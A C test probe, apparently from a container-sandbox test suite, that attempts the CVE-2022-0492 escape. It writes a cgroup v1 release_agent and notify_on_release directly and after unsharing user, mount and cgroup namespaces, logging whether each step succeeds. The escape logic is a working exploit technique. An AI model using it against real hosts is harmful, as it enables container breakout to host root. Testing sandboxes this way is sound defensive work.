/* CVE-2022-0492: set a cgroup v1 release_agent (run by the host kernel as host root when the
 * cgroup empties), directly and after unshare(user+mount+cgroup namespaces).
 *   cgroup_release SCRATCHDIR CONTROLLER */
#include "common.h"
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>

static void write_file(const char *label, const char *path, const char *data)
{
	int fd = open(path, O_WRONLY);
	char name[96];

	snprintf(name, sizeof name, "%s-open", label);
	if (step(name, fd) < 0)
		return;
	snprintf(name, sizeof name, "%s-write", label);
	step(name, write(fd, data, strlen(data)));
	close(fd);
}

static void attack(const char *prefix, const char *dir, const char *ctl)
{
	char name[96], path[256];

	snprintf(name, sizeof name, "%s-mount-cgroup", prefix);
	mkdir(dir, 0755);
	if (step(name, mount("cgroup", dir, "cgroup", 0, ctl)) == 0) {
		snprintf(path, sizeof path, "%s/release_agent", dir);
		snprintf(name, sizeof name, "%s-release-agent", prefix);
		write_file(name, path, "/moat-escape-release-agent\n");
		snprintf(path, sizeof path, "%s/notify_on_release", dir);
		snprintf(name, sizeof name, "%s-notify-on-release", prefix);
		write_file(name, path, "1\n");
	}
	snprintf(name, sizeof name, "%s-mount-rdma", prefix);
	step(name, mount("cgroup", dir, "cgroup", 0, "rdma"));
	snprintf(name, sizeof name, "%s-mount-new-named", prefix);
	step(name, mount("cgroup", dir, "cgroup", 0, "none,name=moatescape"));
}

int main(int argc, char **argv)
{
	char path[256], dir[200];

	if (argc != 3)
		return fprintf(stderr, "usage: cgroup_release SCRATCHDIR CONTROLLER\n"), 2;
	mkdir(argv[1], 0755);
	/* The hierarchy the runtime bind-mounted for us. */
	snprintf(path, sizeof path, "/sys/fs/cgroup/%s/release_agent", argv[2]);
	write_file("mounted-release-agent", path, "/moat-escape-release-agent\n");
	snprintf(path, sizeof path, "/sys/fs/cgroup/%s/notify_on_release", argv[2]);
	write_file("mounted-notify-on-release", path, "1\n");
	snprintf(dir, sizeof dir, "%s/direct", argv[1]);
	attack("direct", dir, argv[2]);
	/* The CVE's way: a user namespace gives CAP_SYS_ADMIN over new mount and cgroup namespaces. */
	if (step("unshare-user-mnt-cgroup", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) == 0) {
		int fd = open("/proc/self/setgroups", O_WRONLY);
		if (fd >= 0) {
			(void)!write(fd, "deny", 4);
			close(fd);
		}
		write_file("userns-uid-map", "/proc/self/uid_map", "0 0 1");
		write_file("userns-gid-map", "/proc/self/gid_map", "0 0 1");
		snprintf(dir, sizeof dir, "%s/userns", argv[1]);
		attack("userns", dir, argv[2]);
	}
	return 0;
}
